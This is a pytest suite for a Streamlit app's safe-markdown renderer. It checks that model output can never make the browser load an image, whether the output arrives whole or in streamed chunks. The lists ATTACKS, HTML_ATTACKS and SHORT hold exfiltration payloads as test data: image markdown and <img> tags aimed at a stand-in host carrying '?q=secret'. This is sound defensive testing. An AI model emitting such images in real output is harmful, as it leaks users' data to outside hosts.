"""Model output never makes the browser load an image, whole or streamed in any chunks.

Every output is rendered with a real CommonMark parser (markdown-it-py), as `st.markdown` renders
it (raw HTML off) and, for the image checks, with raw HTML on as well, so only real image syntax counts.
"""

from __future__ import annotations

import ast
import itertools
import random
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from app.ui.render import SafeMarkdownStream, safe_markdown

AS_STREAMLIT = MarkdownIt("commonmark", {"html": False})
WITH_HTML = MarkdownIt("commonmark", {"html": True})
EVIL = "http://evil.test/?q=secret"

ATTACKS = [
    f"![x]({EVIL})",
    f"!![x]({EVIL})",
    f"hello !!![x]({EVIL}) bye",
    f"\\\\![x]({EVIL})",
    f"\\!![x]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"![x][ref]\n\n[ref]: {EVIL}",
    f"!![x][ref]\n\n[ref]: {EVIL}",
    f"![ref]\n\n[ref]: {EVIL}",
    f"![x][]\n\n[x]: {EVIL}",
    f"![x](<{EVIL}>)",
    f'![x]({EVIL} "title")',
    f"* item ![x]({EVIL})",
    f"> quote !![x]({EVIL})",
    f"**bold**![x]({EVIL})",
    f"`code` ![x]({EVIL}) `more`",
    f"![a]({EVIL})![b]({EVIL})!![c]({EVIL})",
]
# Not images, but a fix that escaped `!` as `\!` would turn their backslash into an escaped one.
ESCAPED = [f"\\![x]({EVIL})", f"!\\![x]({EVIL})", f"\\![x][ref]\n\n[ref]: {EVIL}"]
HTML_ATTACKS = [f'<img src="{EVIL}">', f"text <img src='{EVIL}' /> text", f"<div>\n\n![x]({EVIL})\n\n</div>"]
SHORT = ["!![x](u)", "a!![b](c)!", "\\!![x][r]\n[r]: u", "!![x]!![y](u)"]


def has_image(markdown: str) -> bool:
    return "<img" in AS_STREAMLIT.render(markdown) or "<img" in WITH_HTML.render(markdown)


def streamed(chunks: list[str]) -> list[str]:
    """What `st.write_stream` shows after each chunk: the concatenation of the outputs so far."""
    stream = SafeMarkdownStream()
    shown, out = "", []
    for chunk in chunks:
        shown += stream.feed(chunk)
        out.append(shown)
    out.append(shown + stream.flush())
    return out


def splits(text: str, pieces: int) -> list[list[str]]:
    return [
        [text[a:b] for a, b in itertools.pairwise((0, *cuts, len(text)))]
        for cuts in itertools.combinations(range(1, len(text)), pieces - 1)
    ]


def all_splits(text: str) -> list[list[str]]:
    return [chunks for n in range(1, len(text) + 1) for chunks in splits(text, n)]


@pytest.mark.parametrize("text", ATTACKS)
def test_the_attacks_are_images_and_come_out_as_links(text: str) -> None:
    assert has_image(text), "the attack itself must be an image, or the test proves nothing"
    safe = safe_markdown(text)
    assert not has_image(safe)
    assert "secret" in AS_STREAMLIT.render(safe) or "[ref]" in text or "[]" in text


@pytest.mark.parametrize("text", ESCAPED)
def test_escaped_variants_stay_without_images(text: str) -> None:
    assert not has_image(text)
    assert not has_image(safe_markdown(text))


@pytest.mark.parametrize("text", ATTACKS + ESCAPED)
def test_every_two_and_three_way_split_streams_safely(text: str) -> None:
    for chunks in [[text], list(text), *splits(text, 2), *splits(text, 3)]:
        shown = streamed(chunks)
        assert shown[-1] == safe_markdown(text)
        for markdown in shown:
            assert not has_image(markdown), chunks


@pytest.mark.parametrize("text", SHORT)
def test_every_chunking_of_short_attacks(text: str) -> None:
    for chunks in all_splits(text):
        shown = streamed(chunks)
        assert shown[-1] == safe_markdown(text)
        assert not any("![" in markdown for markdown in shown), chunks


def test_random_markdown_never_renders_an_image() -> None:
    rng = random.Random(7)
    alphabet = ["!", "!", "[", "]", "(", ")", "\\", "x", " ", "\n", ":", "<", ">", "`", "u", "*"]
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 24)))
        cuts = sorted(rng.sample(range(1, len(text)), min(3, len(text) - 1))) if len(text) > 1 else []
        chunks = [text[a:b] for a, b in itertools.pairwise((0, *cuts, len(text)))]
        shown = streamed(chunks)
        assert shown[-1] == safe_markdown(text)
        for markdown in shown:
            assert "![" not in markdown
            assert "<img" not in AS_STREAMLIT.render(markdown), text


def test_ordinary_text_is_unchanged() -> None:
    text = "Wow! It works!\n\n```python\nprint('hi!')\n```\n[a link](http://example.com) and `a[0]`!"
    assert safe_markdown(text) == text
    assert streamed([text[:5], text[5:13], text[13:]])[-1] == text


def test_extra_exclamation_marks_are_kept_apart_from_the_link() -> None:
    assert safe_markdown("Wow!![pic](u)") == "Wow! [🖼 pic](u)"
    assert safe_markdown("![pic](u)") == "[🖼 pic](u)"


@pytest.mark.parametrize("text", HTML_ATTACKS)
def test_raw_html_is_shown_as_text_the_way_st_markdown_renders_it(text: str) -> None:
    assert "<img" in WITH_HTML.render(text), "raw HTML would load the image if it were rendered"
    shown = AS_STREAMLIT.render(safe_markdown(text))
    assert "<img" not in shown
    assert "&lt;img" in shown or "&lt;div&gt;" in shown


def test_the_app_never_renders_markdown_as_html() -> None:
    """`st.markdown` escapes raw HTML only while `unsafe_allow_html` is off; no call may turn it on."""
    app = Path(__file__).resolve().parent.parent / "app"
    offenders = []
    for path in app.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.keyword) and node.arg == "unsafe_allow_html":
                offenders.append(f"{path}:{node.lineno}")
            if isinstance(node, ast.Attribute) and node.attr == "html" and ast.unparse(node.value) == "st":
                offenders.append(f"{path}:{node.lineno}")
    assert offenders == []
